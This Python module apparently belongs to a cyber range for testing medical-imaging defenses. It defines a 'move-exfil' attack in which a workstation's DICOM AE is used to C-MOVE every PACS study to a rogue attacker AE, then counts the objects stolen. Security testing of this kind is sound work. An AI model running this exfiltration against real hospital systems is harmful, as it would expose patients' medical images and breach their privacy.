"""C-MOVE exfiltration: a workstation's AE moves every study to the attacker's AE (T1048, T0882)."""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome


def run(ctx: Context) -> Outcome:
    before = ctx.count_files(ctx.st.rogue_store)
    ctx.move(ctx.st.workstation_ae, ctx.st.rogue_ae, ctx.pacs_studies())
    got = ctx.count_files(ctx.st.rogue_store) - before
    return Outcome(success=got > 0, impact={"objects_exfiltrated": got}, note=f"{got} objects at the rogue AE")


ATTACK = Attack(
    name="move-exfil", title="C-MOVE exfiltration to a rogue AE", attack_ids=("T1048", "T0882"),
    precondition="the workstation's AE title (WS01); the PACS still knows the stale AE EXFIL",
    objective="objects received by the rogue storage SCP", layers=("gateway", "monitor"), run=run)
